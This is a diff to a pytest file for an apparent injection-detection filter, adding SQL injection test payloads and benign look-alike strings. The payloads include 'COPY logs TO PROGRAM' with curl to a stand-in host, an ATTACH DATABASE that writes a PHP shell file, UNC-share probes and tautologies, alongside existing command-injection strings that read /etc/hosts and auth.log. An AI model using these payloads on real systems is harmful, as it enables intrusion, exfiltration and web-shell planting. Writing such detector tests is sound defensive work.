@@ -28,9 +28,23 @@ ATTACKS: dict[str, tuple[str, Context]] = {
     "tool_split_by_empty_backticks": ("c``at /etc/hosts", QUERY),
     "ifs_as_the_space": ("cat${IFS}/var/log/auth.log", BODY),
     "ifs_var_as_the_space": ("id$IFS$9-u", QUERY),
+    # a database fingerprint: an expression equal to itself, or a PostgreSQL cast compared to its number
+    "function_equal_to_itself": ("database_name()=database_name()", QUERY),
+    "function_with_literal_equal_to_itself": ("md5('probe')=md5('probe')", BODY),
+    "number_equal_to_itself": ("4711=4711", QUERY),
+    "number_equal_to_itself_after_or": ("9 or 808=808", QUERY),
+    "postgres_cast_compared": ("7::bigint=7", QUERY),
+    # statements only SQL writes
+    "xp_fileexist_to_a_share": ("xp_fileexist '\\\\files.example\\s'", BODY),
+    "copy_to_program": ("COPY logs TO PROGRAM 'curl x.example'", BODY),
+    "sqlite_attach": ("ATTACH DATABASE '/srv/app/shell.php' AS pwn", BODY),
+    "restore_from_share": ("RESTORE HEADERONLY FROM DISK = '\\\\h.example\\f'", BODY),
+    "master_catalogue_read": ("SELECT name FROM master.dbo.sysdatabases", QUERY),
 }
 
-RULES = dict.fromkeys(ATTACKS, "cmdi")
+RULES = dict.fromkeys(ATTACKS, "cmdi") | {
+    name: "sqli" for name in ATTACKS if not name.startswith(("tool_", "shell_", "ifs_"))
+}
 
 
 @pytest.mark.parametrize(("name", "value", "ctx"), [(k, *v) for k, v in ATTACKS.items()], ids=ATTACKS.keys())
@@ -48,6 +62,14 @@ BENIGN: dict[str, tuple[str, Context]] = {
     "title_with_quote_pairs": ("Rock'n'Roll Hall of Fame", BODY),
     "windows_path": ("C:\\Users\\alice\\Documents", BODY),
     "shell_variable_in_prose": ("set $HOME first", QUERY),
+    # equations and prose about databases
+    "equation": ("E=mc2", BODY),
+    "function_definition": ("f(x)=2x+1", BODY),
+    "different_numbers": ("3=4", QUERY),
+    "ipv6_like": ("fe80::1", QUERY),
+    "copy_in_prose": ("copy the program from the old disk", BODY),
+    "attach_in_prose": ("attach database dump as a file", BODY),
+    "master_branch": ("merged from master..develop", BODY),
 }
 
 
